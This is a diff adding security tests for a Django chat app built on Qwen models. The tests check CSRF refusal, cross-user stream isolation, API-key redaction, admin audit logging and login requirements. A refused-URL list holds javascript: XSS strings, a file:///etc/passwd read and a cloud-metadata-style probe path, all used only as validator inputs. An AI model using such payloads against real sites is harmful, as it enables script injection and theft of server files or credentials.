+    await receive_until(ws_a, seen_a, lambda t: sum(f[0] == "+" for f in t.frames) >= 2)
+    await ws_b.send_to(text_data=send_frame("from-bob"))
+    await receive_until(ws_b, seen_b, lambda t: sum(f[0] == "+" for f in t.frames) >= 2)
+    her_reply = await assistant_reply(hers)
+    await ws_b.send_to(text_data=json.dumps({"type": "stop"}))
+    await ws_b.send_to(
+        text_data=json.dumps({"type": "hello", "streaming": [her_reply.pk], "last": 0})
+    )
+    await receive_until(ws_b, seen_b, lambda t: "stopped" in t.status.values())
+    ended = lambda t: t.status.get(her_reply.pk, "streaming") != "streaming"  # noqa: E731
+    await receive_until(ws_a, seen_a, ended, within=20)
+    her_reply = await wait_for_status(her_reply.pk, {"complete", "stopped", "error"})
+    assert her_reply.status == "complete", "bob's Stop stopped alice's reply"
+    assert her_reply.content == REPLY_A
+    assert (await assistant_reply(his)).status == "stopped"
+    await asyncio.sleep(0.2)
+    while not await ws_b.receive_nothing(timeout=0.1):
+        seen_b.feed(await ws_b.receive_from())
+    for frame in seen_b.frames:
+        assert "alice-words" not in frame and f"message-{her_reply.pk}" not in frame
+        assert str(hers.id) not in frame
+    assert her_reply.pk not in seen_b.text
+    await ws_a.disconnect()
+    await ws_b.disconnect()
+
+
+# -- 8. frames never cross users ---------------------------------------------------------------
+
+
+def assert_frames_belong(frames: list[str], own_pks: set[int], own_id, other_id, other_word):
+    last: dict[str, int] = {}
+    for frame in frames:
+        if frame[:1] in ("+", "~"):
+            pk_text, _, _text = frame[1:].partition(":")
+            assert pk_text or frame[0] in last, "a `+:` frame before any `+<pk>:` frame"
+            pk = int(pk_text) if pk_text else last[frame[0]]
+            last[frame[0]] = pk
+            assert pk in own_pks, frame
+        else:
+            for pk in re.findall(r'id="message-(\d+)', frame):
+                assert int(pk) in own_pks, frame
+            assert str(other_id) not in frame
+        assert other_word not in frame, frame
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_08_frames_never_cross_users(app_simulator):
+    """alice (two tabs) and bob stream at the same time on the in-memory layer: every frame
+    each socket gets is about its own conversation's messages."""
+    app_simulator.add_scenario(Scenario(match="from-alice", reply=REPLY_A, token_delay=0.01))
+    app_simulator.add_scenario(Scenario(match="from-bob", reply=REPLY_B, token_delay=0.01))
+    alice, bob = await make_user("alice"), await make_user("bob")
+    hers, his = await make_conversation(alice), await make_conversation(bob)
+    tab1, _, _ = await connect(alice, hers)
+    tab2, _, _ = await connect(alice, hers)
+    ws_b, _, _ = await connect(bob, his)
+    seen = {tab1: Transcript(), tab2: Transcript(), ws_b: Transcript()}
+    stamps: dict[object, list[float]] = {tab1: [], ws_b: []}
+    await asyncio.gather(
+        tab1.send_to(text_data=send_frame("from-alice")),
+        ws_b.send_to(text_data=send_frame("from-bob")),
+    )
+
+    async def follow(ws):
+        transcript = seen[ws]
+        while "complete" not in transcript.status.values():
+            transcript.feed(await ws.receive_from(timeout=20))
+            if ws in stamps and transcript.frames[-1][:1] == "+":
+                stamps[ws].append(time.monotonic())
+
+    await asyncio.wait_for(asyncio.gather(*(follow(ws) for ws in seen)), 30)
+    # They really streamed at the same time.
+    assert stamps[tab1][0] < stamps[ws_b][-1] and stamps[ws_b][0] < stamps[tab1][-1]
+    her_pks = {pk async for pk in hers.messages.values_list("pk", flat=True)}
+    his_pks = {pk async for pk in his.messages.values_list("pk", flat=True)}
+    for tab in (tab1, tab2):
+        assert_frames_belong(seen[tab].frames, her_pks, hers.id, his.id, "bob-words")
+        assert seen[tab].text[max(her_pks)] == REPLY_A
+    assert_frames_belong(seen[ws_b].frames, his_pks, his.id, hers.id, "alice-words")
+    assert seen[ws_b].text[max(his_pks)] == REPLY_B
+    for ws in seen:
+        await ws.disconnect()
+
+
+# -- 10. CSRF ----------------------------------------------------------------------------------
+
+# Views that may take a POST without a CSRF token, each with its reason. None so far.
+CSRF_EXEMPT_ALLOWED: dict[str, str] = {}
+
+
+def test_10_no_view_is_csrf_exempt():
+    exempt = {
+        name or path
+        for path, name, _ in url_patterns()
+        if getattr(resolve(path).func, "csrf_exempt", False)
+    }
+    assert exempt <= set(CSRF_EXEMPT_ALLOWED), exempt
+
+
+def _csrf_client(user) -> Client:
+    client = Client(enforce_csrf_checks=True)
+    client.force_login(user)
+    return client
+
+
+def _refused_for_csrf(response) -> bool:
+    return response.status_code == 403 and b"CSRF" in response.content
+
+
+@pytest.mark.django_db
+def test_10_every_post_without_a_token_is_refused(alices_chat, alice, admin_user):
+    """Every URL in the URL conf, POSTed without a token by a signed-in user (the owner of the
+    conversation the URL names, or a superuser for the admin), is refused by the CSRF check."""
+    owner = _csrf_client(alice)
+    admin = _csrf_client(admin_user)
+    before = snapshot(alices_chat)
+    refused = []
+    for path, name, _ in url_patterns():
+        client = admin if path.startswith("/admin/") else owner
+        response = client.post(path.replace(DUMMY_UUID, str(alices_chat.id)), {"x": "1"})
+        if not _refused_for_csrf(response):
+            refused.append((path, name, response.status_code))
+    assert refused == [], "POST without a CSRF token was not refused"
+    assert snapshot(alices_chat) == before
+
+
+@pytest.mark.django_db
+def test_10_state_changing_posts_without_a_token_change_nothing(alices_chat, alice):
+    """Each state-changing view, without a token: 403 and nothing changed; with the token the
+    same request works (so the 403 is the CSRF check's, not something else)."""
+    client = _csrf_client(alice)
+    other_model = _other_enabled_model(alices_chat)
+    base = f"/c/{alices_chat.id}/"
+    posts = [
+        ("/c/new/", {"content": "csrf?"}),
+        (base + "rename/", {"title": "csrf title"}),
+        (base + "settings/", {"model": other_model}),
+        (base + "delete/", {}),
+        ("/i18n/setlang/", {"language": "zh-hans", "next": "/"}),
+        ("/accounts/logout/", {}),
+        ("/admin/logout/", {}),
+    ]
+    before = snapshot(alices_chat)
+    count = Conversation.objects.count()
+    for url, data in posts:
+        for headers in ({}, {"HX-Request": "true"}):
+            response = client.post(url, data, headers=headers)
+            assert _refused_for_csrf(response), (url, response.status_code)
+            assert django_settings.LANGUAGE_COOKIE_NAME not in response.cookies
+    assert snapshot(alices_chat) == before
+    assert Conversation.objects.count() == count
+    assert client.get("/").status_code == 200, "still signed in: logout needs the token"
+
+    token = client.cookies[django_settings.CSRF_COOKIE_NAME].value
+    response = client.post(base + "rename/", {"title": "with token"}, HTTP_X_CSRFTOKEN=token)
+    assert response.status_code in (200, 302)
+    alices_chat.refresh_from_db()
+    assert alices_chat.title == "with token"
+
+    anonymous = Client(enforce_csrf_checks=True)
+    response = anonymous.post("/accounts/login/", {"username": "alice", "password": "pw-alice"})
+    assert _refused_for_csrf(response), "login needs a token too (login CSRF)"
+    assert "_auth_user_id" not in anonymous.session
+
+
+@pytest.mark.django_db
+def test_10_admin_actions_without_a_token_change_nothing(alices_chat, admin_user):
+    client = _csrf_client(admin_user)
+    changelist = "/admin/conversations/conversation/"
+    profile = ModelProfile.objects.first()
+    label = profile.label
+    for url, data in [
+        (changelist, {"action": "export_json", "_selected_action": [str(alices_chat.pk)]}),
+        (changelist, {"action": "delete_selected", "_selected_action": [str(alices_chat.pk)],
+                      "post": "yes"}),
+        (f"{changelist}{alices_chat.pk}/delete/", {"post": "yes"}),
+        (f"/admin/conversations/modelprofile/{profile.pk}/change/",
+         {"label": "pwned", "name": profile.name}),
+        ("/admin/conversations/systemprompt/add/", {"name": "pwned", "text": "pwned"}),
+        (f"/admin/auth/user/{admin_user.pk}/password/",
+         {"password1": "n3w-Passw0rd!", "password2": "n3w-Passw0rd!"}),
+    ]:  # fmt: skip
+        response = client.post(url, data)
+        assert _refused_for_csrf(response), (url, response.status_code)
+        assert b'"messages"' not in response.content, "nothing exported"
+    assert Conversation.objects.filter(pk=alices_chat.pk).exists()
+    profile.refresh_from_db()
+    assert profile.label == label
+    assert not LogEntry.objects.exists(), "no admin action ran, not even an audited export"
+    admin_user.refresh_from_db()
+    assert admin_user.check_password("password")
+
+
+# -- 11. the API key never leaks ---------------------------------------------------------------
+
+WRONG_KEY = "sk-wrong-key-0d7e61b5a2"
+
+
+async def send_and_settle(ws, transcript: Transcript, text: str, **extra) -> int:
+    """Send a message, wait for its reply to finish (any way); return the reply's pk."""
+    before = set(transcript.status)
+    frame = json.loads(send_frame(text))
+    frame.update(extra)
+    await ws.send_to(text_data=json.dumps(frame))
+
+    def settled(t: Transcript) -> bool:
+        new = [pk for pk in t.status if pk not in before]
+        return bool(new) and t.status[max(new)] != "streaming"
+
+    await receive_until(ws, transcript, settled, within=20)
+    return max(pk for pk in transcript.status if pk not in before)
+
+
+def _pages(owner, admin, conversations: list[Conversation]) -> list[str]:
+    """Every page and export a person could see of these conversations, with headers."""
+    user_client, admin_client = Client(), Client()
+    user_client.force_login(owner)
+    admin_client.force_login(admin)
+    responses = [user_client.get("/")]
+    for conversation in conversations:
+        base = f"/c/{conversation.id}/"
+        responses += [
+            user_client.get(base),
+            user_client.get(base + "messages/?before=999999999"),
+            user_client.get(base + "export.json"),
+            user_client.get(base + "export.md"),
+        ]
+        admin_base = f"/admin/conversations/conversation/{conversation.pk}/"
+        responses += [
+            admin_client.get(admin_base + "change/"),
+            admin_client.get(admin_base + "history/"),
+            admin_client.get(
+                "/admin/conversations/message/?conversation__id__exact=" + str(conversation.pk)
+            ),
+            admin_client.post(
+                "/admin/conversations/conversation/",
+                {"action": "export_json", "_selected_action": [str(conversation.pk)]},
+            ),
+        ]
+        for pk in conversation.messages.values_list("pk", flat=True):
+            responses.append(admin_client.get(f"/admin/conversations/message/{pk}/change/"))
+    responses += [admin_client.get("/admin/"), admin_client.get("/admin/conversations/message/")]
+    for response in responses:
+        assert response.status_code == 200, response.wsgi_request.path
+    return [
+        "\n".join(f"{k}: {v}" for k, v in response.items()) + "\n" + response.content.decode()
+        for response in responses
+    ]
+
+
+def _log_text(caplog) -> list[str]:
+    formatter = logging.Formatter("%(name)s %(levelname)s %(message)s")
+    return [formatter.format(record) for record in caplog.records]
+
+
+def _capture_all_logs(caplog) -> None:
+    caplog.set_level(logging.DEBUG)
+    for name in ("httpx", "httpcore", "conversations", "django", "channels", "daphne",
+                 "qwenweb", "asyncio", "uvicorn"):  # fmt: skip
+        caplog.set_level(logging.DEBUG, logger=name)
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_11_api_key_never_leaks(app_simulator, settings, caplog):
+    """A chat with the app's key: a normal reply, an auth error and upstream errors whose
+    message echoes the key (before the stream, mid-stream, native and OpenAI-compatible), then
+    a wrong key. Neither key is in any frame, page, export, admin page, saved message or log
+    record (every logger at DEBUG, httpx and httpcore included)."""
+    _capture_all_logs(caplog)
+    echo = f'Bad request {{"headers": {{"Authorization": "Bearer {APP_API_KEY}"}}}}, {APP_API_KEY}'
+    app_simulator.add_scenario(
+        Scenario(match="auth-echo", error=ScenarioError(
+            status=401, code="InvalidApiKey", message=f"Invalid API-key provided: {APP_API_KEY}"))
+    )  # fmt: skip
+    app_simulator.add_scenario(
+        Scenario(match="bad-echo", times=2, error=ScenarioError(
+            status=400, code="InvalidParameter", message=echo))
+    )  # fmt: skip
+    app_simulator.add_scenario(
+        Scenario(match="mid-echo", reply="partial words here and more", error=ScenarioError(
+            status=400, code="InvalidParameter", message=echo, where="mid_stream",
+            after_chunks=2))
+    )  # fmt: skip
+    owner = await make_user("alice")
+    admin = await get_user_model().objects.acreate_superuser("root", password="pw-root")
+    native = await make_conversation(owner)
+    compatible = await make_conversation(owner, model_name="qwen-max")
+    await ModelProfile.objects.filter(name="qwen-max").aupdate(protocol="compatible")
+
+    frames: list[str] = []
+    ws, _, _ = await connect(owner, native)
+    transcript = Transcript()
+    replies = [await send_and_settle(ws, transcript, text)
+               for text in ("hello there", "auth-echo", "bad-echo", "mid-echo")]  # fmt: skip
+    frames += transcript.frames
+    await ws.disconnect()
+    ws, _, _ = await connect(owner, compatible)
+    transcript = Transcript()
+    replies.append(await send_and_settle(ws, transcript, "bad-echo"))
+    settings.DASHSCOPE_API_KEY = WRONG_KEY
+    reset_clients()
+    replies.append(await send_and_settle(ws, transcript, "with the wrong key"))
+    frames += transcript.frames
+    await ws.disconnect()
+
+    statuses = [(await Message.objects.aget(pk=pk)).status for pk in replies]
+    assert statuses == ["complete", "error", "error", "error", "error", "error"]
+    # The echoes reached the app (and were redacted there), and the key was really used.
+    bad = await Message.objects.aget(pk=replies[2])
+    assert "sk-***" in bad.error_message
+    authorized = [r.authorized for r in app_simulator.requests]
+    assert authorized[:5] == [True] * 5 and authorized[5:] and not any(authorized[5:])
+    assert any(r.name.startswith("httpx") for r in caplog.records), "httpx was not captured"
+
+    pages = await sync_to_async(_pages)(owner, admin, [native, compatible])
+    saved = [
+        json.dumps(row, default=str)
+        async for row in Message.objects.values(
+            "content", "reasoning", "error_code", "error_message", "request_id"
+        )
+    ]
+    haystacks = {"frame": frames, "page": pages, "saved": saved, "log": _log_text(caplog)}
+    for key in (APP_API_KEY, WRONG_KEY):
+        for kind, texts in haystacks.items():
+            leaks = [text for text in texts if key in text]
+            assert leaks == [], f"{key} in a {kind}: {leaks[:1]}"
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_11_api_key_with_a_trailing_newline_never_leaks(app_simulator, settings, caplog):
+    _capture_all_logs(caplog)
+    settings.DASHSCOPE_API_KEY = APP_API_KEY + "\n"
+    reset_clients()
+    owner = await make_user("alice")
+    conversation = await make_conversation(owner)
+    ws, _, _ = await connect(owner, conversation)
+    transcript = Transcript()
+    await send_and_settle(ws, transcript, "hello")
+    await ws.disconnect()
+    saved = [m async for m in Message.objects.values_list("error_message", flat=True)]
+    for text in [*transcript.frames, *saved, *_log_text(caplog)]:
+        assert APP_API_KEY not in text, text
+    # The key read from a secret file works: the newline is not part of it.
+    assert set(transcript.status.values()) == {"complete"}, transcript.status
+
+
+# -- 12. image URLs ----------------------------------------------------------------------------
+
+ACCEPTED_IMAGE_URLS = [
+    "https://example.com/cat.png",
+    "http://example.com/cat.png",
+    "HTTPS://EXAMPLE.COM/CAT.PNG",
+    "https://user:pw@example.com/x.png",  # the sender's own credentials; never fetched here
+    "http://127.0.0.1:8000/x.png",  # loopback and private hosts: the server never fetches
+    "http://10.0.0.1/x.png",
+    "http://[::1]/x.png",
+]
+REFUSED_IMAGE_URLS = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "javascript://example.com/%0Aalert(1)",
+    "data:image/png;base64,iVBORw0KGgo=",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "ftp://example.com/x.png",
+    "gopher://example.com/x",
+    "/relative/x.png",
+    "x.png",
+    "//example.com/x.png",
+    "https:/example.com/x.png",
+    "https://",
+    "https://example.com/" + "a" * 2000,
+]
+
+
+@pytest.mark.parametrize("url", ACCEPTED_IMAGE_URLS + REFUSED_IMAGE_URLS)
+def test_12_image_urls_must_be_http_or_https(url):
+    if url in ACCEPTED_IMAGE_URLS:
+        assert chat.clean_image_urls(url) == [url]
+    else:
+        with pytest.raises(chat.ReplyRefused):
+            chat.clean_image_urls(url)
+        # One bad URL among good ones refuses them all.
+        with pytest.raises(chat.ReplyRefused):
+            chat.clean_image_urls(["https://example.com/ok.png", url])
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_12_refused_image_urls_save_nothing_over_socket_and_form(app_simulator):
+    owner = await make_user("alice")
+    conversation = await make_conversation(owner, model_name="qwen3-vl-plus")
+    ws, _, _ = await connect(owner, conversation)
+    client = AsyncClient()
+    await client.aforce_login(owner)
+    vision = await ModelProfile.objects.aget(name="qwen3-vl-plus")
+    for url in REFUSED_IMAGE_URLS:
+        frame = json.loads(send_frame("look"))
+        frame["image_urls"] = url
+        await ws.send_to(text_data=json.dumps(frame))
+        assert 'class="notice"' in await ws.receive_from(timeout=5), url
+        response = await client.post(
+            "/c/new/", {"content": "look", "image_urls": url, "model": vision.pk}
+        )
+        assert response.status_code == 400, url
+    await ws.disconnect()
+    assert await Message.objects.acount() == 0
+    assert await MessageImage.objects.acount() == 0
+    assert await Conversation.objects.acount() == 1
+    assert app_simulator.requests == []
+
+
+@pytest.fixture
+def local_http_server():
+    """An HTTP server on 127.0.0.1 that records every request it gets."""
+    hits: list[str] = []
+
+    class Recorder(BaseHTTPRequestHandler):
+        def _answer(self):
+            hits.append(f"{self.command} {self.path}")
+            self.send_response(200)
+            self.send_header("Content-Type", "image/png")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        do_GET = do_HEAD = do_POST = _answer
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}", hits
+    server.shutdown()
+    server.server_close()
+    thread.join(timeout=5)
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_12_server_never_fetches_image_urls(app_simulator, local_http_server):
+    """Private and loopback addresses are refused if the server ever fetches: it does not;
+    this test fails if it starts to. Image URLs sent to a vision model (over the socket and
+    through the home page's form) pointing at a server on 127.0.0.1 are only passed on to
+    DashScope: rendering the chat, the exports and the admin pages makes no request to it
+    either."""
+    base, hits = local_http_server
+    urls = [f"{base}/cat.png", f"{base}/latest/meta-data/iam.png"]
+    owner = await make_user("alice")
+    admin = await get_user_model().objects.acreate_superuser("root", password="pw-root")
+    conversation = await make_conversation(owner, model_name="qwen3-vl-plus")
+    ws, _, _ = await connect(owner, conversation)
+    transcript = Transcript()
+    reply = await send_and_settle(ws, transcript, "what is this?", image_urls=" ".join(urls))
+    await ws.disconnect()
+    assert (await Message.objects.aget(pk=reply)).status == "complete"
+
+    client = AsyncClient()
+    await client.aforce_login(owner)
+    vision = await ModelProfile.objects.aget(name="qwen3-vl-plus")
+    response = await client.post(
+        "/c/new/", {"content": "and this?", "image_urls": f"{base}/form.png", "model": vision.pk}
+    )
+    assert response.status_code == 302
+    second = await Conversation.objects.exclude(pk=conversation.pk).aget(owner=owner)
+    await wait_for_status((await assistant_reply(second)).pk, {"complete"})
+    await sync_to_async(_pages)(owner, admin, [conversation, second])
+    await asyncio.sleep(0.3)
+
+    assert hits == [], "the server fetched an image URL itself"
+    sent = json.dumps([r.body for r in app_simulator.requests])
+    for url in [*urls, f"{base}/form.png"]:
+        assert json.dumps(url)[1:-1] in sent, "the URL goes to DashScope"
+    # The recorder works: a request to it is seen.
+    await sync_to_async(urllib.request.urlopen)(base + "/probe")
+    assert hits == ["GET /probe"]
+
+
+# -- 15. admin review: permission and audit ----------------------------------------------------
+
+
+def _staff(django_user_model, username: str, *perms: str):
+    user = django_user_model.objects.create_user(username, password="pw", is_staff=True)
+    for codename in perms:
+        user.user_permissions.add(Permission.objects.get(codename=codename))
+    return user
+
+
+def _admin_urls(conversation: Conversation) -> dict[str, str]:
+    message = conversation.messages.first()
+    return {
+        "conversation changelist": "/admin/conversations/conversation/",
+        "conversation change": f"/admin/conversations/conversation/{conversation.pk}/change/",
+        "conversation history": f"/admin/conversations/conversation/{conversation.pk}/history/",
+        "conversation delete": f"/admin/conversations/conversation/{conversation.pk}/delete/",
+        "message changelist": "/admin/conversations/message/",
+        "message change": f"/admin/conversations/message/{message.pk}/change/",
+        "message search": "/admin/conversations/message/?q=alice-answer",
+        "conversation search": "/admin/conversations/conversation/?q=alice-answer",
+    }
+
+
+@pytest.mark.django_db
+def test_15_staff_without_review_permission_gets_nothing(client, django_user_model, alices_chat):
+    staff = _staff(django_user_model, "sam", "view_modelprofile", "view_systemprompt")
+    client.force_login(staff)
+    for what, url in _admin_urls(alices_chat).items():
+        response = client.get(url)
+        assert response.status_code in (302, 403, 404), what
+        assert b"alice-answer-9c1" not in response.content and b"Alice secret" not in (
+            response.content
+        ), what
+    response = client.post(
+        "/admin/conversations/conversation/",
+        {"action": "export_json", "_selected_action": [str(alices_chat.pk)]},
+    )
+    assert response.status_code == 403 and b"alice-answer-9c1" not in response.content
+    index = client.get("/admin/").content.decode()
+    assert "/admin/conversations/conversation/" not in index
+    assert "/admin/conversations/message/" not in index
+    assert not LogEntry.objects.exists()
+
+
+@pytest.mark.django_db
+def test_15_reviewer_reads_but_cannot_change(client, django_user_model, alices_chat):
+    reviewer = _staff(django_user_model, "rita", "review_conversation")
+    client.force_login(reviewer)
+    urls = _admin_urls(alices_chat)
+    for what in ("conversation changelist", "conversation change", "message change",
+                 "message search", "conversation search"):  # fmt: skip
+        assert client.get(urls[what]).status_code == 200, what
+    assert b"alice-answer-9c1" in client.get(urls["conversation change"]).content
+    before = snapshot(alices_chat)
+    message = alices_chat.messages.get(role="assistant")
+    assert client.get(urls["conversation delete"]).status_code == 403
+    assert client.post(urls["conversation delete"], {"post": "yes"}).status_code == 403
+    assert client.get("/admin/conversations/conversation/add/").status_code == 403
+    assert client.post(urls["conversation change"], {"title": "changed"}).status_code == 403
+    assert client.post(urls["message change"], {"content": "changed"}).status_code == 403
+    client.post(
+        "/admin/conversations/conversation/",
+        {"action": "delete_selected", "_selected_action": [str(alices_chat.pk)], "post": "yes"},
+    )
+    assert snapshot(alices_chat) == before
+    message.refresh_from_db()
+    assert message.content == "alice-answer-9c1"
+
+
+@pytest.mark.django_db
+def test_15_reviews_are_audited(client, django_user_model, alices_chat, caplog):
+    """Opening someone else's conversation or message, or exporting it, in the admin leaves
+    a record naming the reviewer, the conversation and the time, on the conversation's
+    History page and on the qwenweb.audit logger."""
+    caplog.set_level(logging.INFO, logger="qwenweb.audit")
+    reviewer = _staff(django_user_model, "rita", "review_conversation")
+    client.force_login(reviewer)
+    urls = _admin_urls(alices_chat)
+    start = timezone.now()
+    assert client.get(urls["conversation change"]).status_code == 200
+    assert client.get(urls["message change"]).status_code == 200
+    response = client.post(
+        "/admin/conversations/conversation/",
+        {"action": "export_json", "_selected_action": [str(alices_chat.pk)]},
+    )
+    assert json.loads(response.content)[0]["id"] == str(alices_chat.id)
+    end = timezone.now()
+
+    entries = list(LogEntry.objects.order_by("pk"))
+    assert [e.change_message for e in entries] == [
+        "Viewed for review",
+        f"Viewed message {alices_chat.messages.first().pk} for review",
+        "Exported as JSON for review",
+    ]
+    for entry in entries:
+        assert entry.user_id == reviewer.pk
+        assert entry.content_type == ContentType.objects.get_for_model(Conversation)
+        assert entry.object_id == str(alices_chat.pk)
+        assert start <= entry.action_time <= end
+        assert entry.action_flag == REVIEWED
+        assert not (entry.is_addition() or entry.is_change() or entry.is_deletion())
+    audit = [r.getMessage() for r in caplog.records if r.name == "qwenweb.audit"]
+    assert len(audit) == 3 and all("rita" in line and str(alices_chat.pk) in line
+                                   for line in audit)  # fmt: skip
+
+    # An admin sees them on the conversation's History page.
+    superuser = django_user_model.objects.create_superuser("root", password="pw")
+    client.force_login(superuser)
+    history = client.get(urls["conversation history"]).content.decode()
+    assert history.count("rita") >= 3
+    assert "Viewed for review" in history and "Exported as JSON for review" in history
+
+
+@pytest.mark.django_db
+def test_15_own_conversations_are_not_audited(client, django_user_model, alices_chat):
+    """Only reading someone else's conversation is a review; refused requests are none."""
+    alice = alices_chat.owner
+    alice.is_staff = True
+    alice.save()
+    alice.user_permissions.add(Permission.objects.get(codename="review_conversation"))
+    client.force_login(alice)
+    assert client.get(_admin_urls(alices_chat)["conversation change"]).status_code == 200
+    staff = _staff(django_user_model, "sam")
+    client.force_login(staff)
+    assert client.get(_admin_urls(alices_chat)["conversation change"]).status_code == 403
+    assert not LogEntry.objects.exists()
+
+
+# -- every page and socket needs a login -------------------------------------------------------
+
+# Anyone may GET these (200): signing in, the health check.
+PUBLIC_URL_NAMES = {"login", "admin:login", "healthz"}
+
+
+@pytest.mark.django_db
+def test_every_page_needs_a_login(client):
+    """Every URL in the URL conf (dummy ids where it takes one), as an anonymous user: a
+    redirect to a login page, or 404/405; never a page, except PUBLIC_URL_NAMES."""
+    login_pages = {reverse("login"), reverse("admin:login")}
+    wrong = []
+    for path, name, _ in url_patterns():
+        for method in ("get", "post"):
+            response = getattr(client, method)(path)
+            status = response.status_code
+            if name in PUBLIC_URL_NAMES:
+                continue
+            if status == 302:
+                target = response["Location"].split("?")[0]
+                if target in login_pages:
+                    continue
+            elif status in (404, 405):
+                continue
+            wrong.append((method.upper(), path, name, status, response.get("Location")))
+    assert wrong == [], "reachable without a login"
+    assert client.get(reverse("healthz")).status_code == 200
+
+
+@pytest.mark.asyncio
+@pytest.mark.django_db(transaction=True)
+async def test_every_socket_needs_a_login():
+    owner = await make_user("alice")
+    conversation = await make_conversation(owner)
+    for pattern in websocket_urlpatterns:
+        path = "/" + re.sub(r"<(?:\w+:)?(\w+)>", str(conversation.id), str(pattern.pattern))
+        assert await _raw_socket(path, None) == (False, 4403), path
